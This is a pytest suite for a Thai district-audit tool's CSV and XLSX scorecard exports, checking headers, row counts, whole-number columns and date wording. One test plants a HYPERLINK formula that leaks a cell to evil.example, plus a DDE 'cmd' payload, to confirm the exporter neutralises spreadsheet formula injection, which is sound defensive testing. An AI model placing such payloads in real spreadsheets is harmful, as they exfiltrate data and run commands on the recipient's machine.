"""CSV and XLSX exports: Thai headers, BOM, and values that agree with the scorecards dict."""

from __future__ import annotations

import copy
from datetime import datetime, timedelta, timezone

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.period import BANGKOK
from auditor.present import export, views
from auditor.present.export import SHEETS, write_exports
from sample_scorecards import sample_scorecards


@pytest.fixture(scope="module")
def scorecards():
    return sample_scorecards()


@pytest.fixture(scope="module")
def exported(scorecards, tmp_path_factory):
    return write_exports(scorecards, tmp_path_factory.mktemp("exports"))


def test_writes_csv_and_xlsx(exported):
    assert [p.name for p in exported] == ["scorecards.csv", "scorecards.xlsx"]


def test_csv_has_bom_and_one_row_per_district(exported, scorecards):
    raw = exported[0].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(exported[0], encoding="utf-8-sig")
    assert len(frame) == len(scorecards["districts"])
    assert list(frame.columns[:5]) == ["เดือน", "รหัสอำเภอ", "อำเภอ", "ผลการตรวจ", "รหัสผล"]
    assert "โพสต์: ทำได้" in frame.columns and "กิจกรรม: ผล" in frame.columns
    assert frame.loc[frame["รหัสอำเภอ"] == "warin-chamrap", "อำเภอ"].item() == "วารินชำราบ"


def test_xlsx_agrees_with_scorecards(exported, scorecards):
    sheets = pd.read_excel(exported[1], sheet_name=None)
    assert list(sheets) == list(SHEETS)
    table = sheets["สรุปรายอำเภอ"].set_index("รหัสอำเภอ")
    for d in scorecards["districts"]:
        row = table.loc[d["district"]]
        assert row["รหัสผล"] == d["verdict"]
        assert row["อำเภอ"] == d["name"]
        shorts = {m["rule"]: m["short_th"] for m in scorecards["rules_meta"]}
        for rule in d["rules"]:
            title = shorts[rule["rule"]]
            assert row[f"{title}: ทำได้"] == rule["observed"], (d["district"], rule["rule"])
            assert row[f"{title}: เกณฑ์"] == rule["required"]
            assert row[f"{title}: ผล"] == {"pass": "ผ่าน", "fail": "ไม่ผ่าน", "unknown": "ตรวจไม่ได้"}[rule["verdict"]]
        assert row["โพสต์ทั้งหมด"] == len(d["posts"])
        assert row["เก็บข้อมูลไม่สำเร็จ (ช่องทาง)"] == len(d["errors"])
    posts = sheets["โพสต์"]
    assert len(posts) == sum(len(d["posts"]) for d in scorecards["districts"])
    errors = sheets["ข้อผิดพลาด"]
    assert sorted(errors["รหัสอำเภอ"]) == sorted(d["district"] for d in scorecards["districts"] for _ in d["errors"])
    assert "สิทธิ์เข้าถึงข้อมูลหมดอายุ" in errors["สาเหตุ"].str.cat()
    assert len(sheets["ระบุอำเภอไม่ได้"]) == len(scorecards["unattributed"])


def test_formula_text_stays_text(scorecards, tmp_path):
    from openpyxl import load_workbook

    sc = copy.deepcopy(scorecards)
    post = sc["districts"][0]["posts"][0]
    post["excerpt"] = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
    post["counted"] = False
    post["notes"] = ["+cmd|' /C calc'!A0"]
    write_exports(sc, tmp_path)
    sheet = load_workbook(tmp_path / "scorecards.xlsx")["โพสต์"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")" in values
    assert "'+cmd|' /C calc'!A0" in values


def test_minimal_contract_only(tmp_path):
    """Only the contract's required fields: exports still work."""
    sc = {
        "schema": "auditor.scorecards/1", "month": "2025-02", "timezone": "Asia/Bangkok",
        "ruleset": {"id": "x"}, "generated_at": "2025-03-01T00:00:00Z",
        "districts": [{"district": "na-tan", "name": "นาตาล", "verdict": "fail",
                       "rules": [{"rule": "activity-count", "verdict": "fail"}], "posts": [], "errors": []}],
    }
    csv_path, xlsx_path = write_exports(sc, tmp_path)
    frame = pd.read_excel(xlsx_path, sheet_name="สรุปรายอำเภอ")
    assert frame["รหัสผล"].tolist() == ["fail"]
    assert pd.read_excel(xlsx_path, sheet_name="โพสต์").empty


def test_counts_stay_whole_numbers_when_a_district_has_none(tmp_path):
    """One district without imported figures must not turn every other district's 150 into 150.0."""
    sc = copy.deepcopy(sample_scorecards())
    sc["rules_meta"].append({"rule": "app-downloads", "title_th": "ดาวน์โหลดแอป", "short_th": "ดาวน์โหลดแอป", "required": None})
    for i, d in enumerate(sc["districts"]):
        figure = None if i == 0 else 150 + i
        d["rules"].append({"rule": "app-downloads", "verdict": "unknown" if figure is None else "pass",
                           "observed": figure, "required": None if figure is None else 130})
    csv_path, xlsx_path = write_exports(sc, tmp_path)
    text = csv_path.read_text(encoding="utf-8-sig")
    assert ",151,130," in text and "151.0" not in text and "130.0" not in text
    frame = pd.read_csv(csv_path, encoding="utf-8-sig")
    assert pd.isna(frame.loc[0, "ดาวน์โหลดแอป: ทำได้"])
    from openpyxl import load_workbook

    sheet = load_workbook(xlsx_path)["สรุปรายอำเภอ"]
    header = [c.value for c in sheet[1]]
    column = header.index("ดาวน์โหลดแอป: ทำได้")
    values = [row[column].value for row in sheet.iter_rows(min_row=2)]
    assert values[0] is None and values[1] == 151 and isinstance(values[1], int)


def test_posts_sheet_speaks_thai(exported, scorecards):
    posts = pd.read_excel(exported[1], sheet_name="โพสต์")
    line = posts[posts["ช่องทาง"] == "LINE"]
    assert set(line["บัญชี"]) >= {"อำเภอน้ำยืน (รายงานเอง)"}
    reasons = " ".join(posts["เหตุที่ไม่นับ"].dropna())
    assert "ไม่ได้แท็กเพจ Click ชุมชน" in reasons and "(near miss" not in reasons and "(missing" not in reasons
    near = posts["เขียนคล้าย (พบ → ที่ถูก)"].dropna().tolist()
    assert "#กิจกรรมขับเคลื่อนClickชุมชน → #กิจกรรมขับเคลื่อนClickชุมชน" in near  # listed twice, exported once


_TIMES = st.datetimes(min_value=datetime(1900, 1, 2), max_value=datetime(2199, 12, 30),
                      timezones=st.sampled_from([timezone(timedelta(hours=7)), timezone.utc, timezone(timedelta(hours=-5)),
                                                 timezone(timedelta(hours=7, minutes=30)), BANGKOK]))


@settings(max_examples=400, deadline=None, database=None)
@given(st.one_of(_TIMES.map(lambda t: t.isoformat()), _TIMES.map(lambda t: t.isoformat(timespec="minutes")),
                 _TIMES.map(lambda t: t.isoformat()[:10]), st.text(max_size=30),
                 _TIMES.map(lambda t: " " + t.isoformat()), _TIMES.map(lambda t: t.isoformat() + "\n"),
                 _TIMES.map(lambda t: t.isoformat().replace("+07:00", "Z")), st.none()))
def test_a_post_date_worded_once_per_day_is_the_one_fmt_gives(iso):
    """The posts sheet's date cell (a lookup per Bangkok day) is Fmt.date of the post's time."""
    cells = export._PostCells()
    assert cells.date(iso) == views.Fmt().date(iso)
    assert cells.date(iso) == views.Fmt().date(iso)  # and again, from the lookup
